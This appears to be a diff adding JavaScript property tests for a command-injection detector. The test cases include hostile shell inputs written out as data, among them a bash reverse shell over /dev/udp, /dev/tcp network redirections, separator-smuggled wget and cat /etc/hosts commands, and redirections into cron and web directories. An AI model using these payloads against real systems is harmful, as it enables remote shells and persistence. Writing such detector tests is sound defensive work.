@@ -181,3 +181,70 @@ test('property: a separator, any command-shaped word and an option or a path is 
     ),
   );
 });
+
+test('empty variables, sibling programs, subshells, network redirection, batch /i', () => {
+  for (const v of [
+    '|$u wget x',
+    ';$foo cat /etc/hosts',
+    ';rmt-tar',
+    'x;curl-config',
+    'x&&(sh)',
+    '0>$d/tcp/198.51.100.1/4444',
+    'bash -i >& /dev/udp/10.0.0.1/53 0>&1',
+    'if/i a==b x',
+  ])
+    assert.ok(detectCmdi(v) !== null, v);
+  for (const v of ['$usd shirt', 'red;t-shirt', 'x;e-mail', 'a (b) && (c)', '/docs/tcp/port/80', 'rock-n-roll;pop-art'])
+    assert.equal(detectCmdi(v), null, v);
+});
+
+test('property: an unset variable before a command after a separator does not hide it', () => {
+  fc.assert(
+    fc.property(
+      fc.constantFrom(';', '|', '&&', '\n'),
+      fc.stringMatching(/^[a-z_][a-z0-9_]{0,6}$/),
+      fc.constantFrom('wget x', 'curl x', 'cat /etc/hosts', 'id', 'whoami'),
+      (sep, name, cmd) => detectCmdi(`x${sep}$${name} ${cmd}`) !== null,
+    ),
+  );
+});
+
+test('property: bash network redirection to any host and port is found', () => {
+  fc.assert(
+    fc.property(
+      fc.ipV4(),
+      fc.integer({ min: 1, max: 65535 }),
+      fc.constantFrom('/dev', '$d', '${d}'),
+      fc.constantFrom('tcp', 'udp'),
+      (ip, port, dev, proto) => detectCmdi(`sh>${dev}/${proto}/${ip}/${port}`) !== null,
+    ),
+  );
+});
+
+test('a value that opens with an output redirection to an absolute path', () => {
+  for (const v of ['>/tmp/curl', ' 2>>/var/www/a.php', '>> /etc/cron.d/x']) assert.ok(detectCmdi(v) !== null, v);
+  for (const v of ['> 50 eur', '>/', 'size >/< 10', 'a>/tmp/x']) assert.equal(detectCmdi(v), null, v);
+  fc.assert(
+    fc.property(
+      fc.constantFrom('>', '>>', '2>', '1>>'),
+      fc.constantFrom('tmp', 'var', 'etc', 'dev'),
+      fc.stringMatching(/^[a-z0-9_.-]{1,12}$/),
+      (op, dir, file) => detectCmdi(`${op}/${dir}/${file}`) !== null,
+    ),
+  );
+});
+
+test('alias definitions and escaped commands opening a value', () => {
+  for (const v of ["alias 'l'=wget", 'alias +g+ a=b', 'alias -g x=y', '\\uname', ' \\ls'])
+    assert.ok(detectCmdi(v) !== null, v);
+  for (const v of ['alias grace', 'alias: jacket=blue', '\\red', '\\n', 'the alias x=y'])
+    assert.equal(detectCmdi(v), null, v);
+  fc.assert(
+    fc.property(
+      fc.stringMatching(/^[a-z]{1,8}$/),
+      fc.constantFrom("'", '"', ''),
+      fc.constantFrom('curl', 'wget', 'x'),
+      (n, q, c) => detectCmdi(`alias ${q}${n}${q}=${c}`) !== null,
+    ),
+  );
+});
